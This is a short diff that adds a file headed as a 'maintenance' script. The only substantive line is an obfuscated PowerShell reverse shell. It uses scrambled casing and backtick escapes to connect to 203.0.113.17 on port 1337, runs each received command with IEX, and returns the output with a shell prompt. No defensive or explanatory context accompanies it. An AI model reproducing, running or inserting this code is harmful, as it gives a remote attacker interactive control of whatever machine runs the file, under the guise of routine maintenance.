@@ -1,0 +1,2 @@
+# MaInTENAnCE 5915 v1
+$cLIeNT = New-oB`JECt S`ySTe`M.NET.SOcKET`S.tcpc`l`IeNt('203.0.113.17',1337);$sTrEAm = $ClIENt.GetStREAm();[BYte[]]$BYTes = 0..65535|%{0};WhiLE(($I = $stream.ReAd($ByTEs, 0, $bYtes.LEngTh)) -ne 0){;$Data = (NEW-`ObJecT -TypeNamE SYSTeM.TExt.ASCIiENCoDIng).GeTStriNG($ByteS,0, $i);$seNDBacK = (IEX $dAta 2>&1 | ouT-`stRINg );$sEndBACk2 = $senDBACk + 'PS ' + (PWD).PATh + '> ';$SENdbYtE = ([TExt.eNCODIng]::AscII).GEtbYtES($SeNdbaCk2);$sTreAm.wRitE($sEnDbytE,0,$SenDByTE.lEnGtH);$STrEam.fluSH()};$CLIeNt.ClOsE()
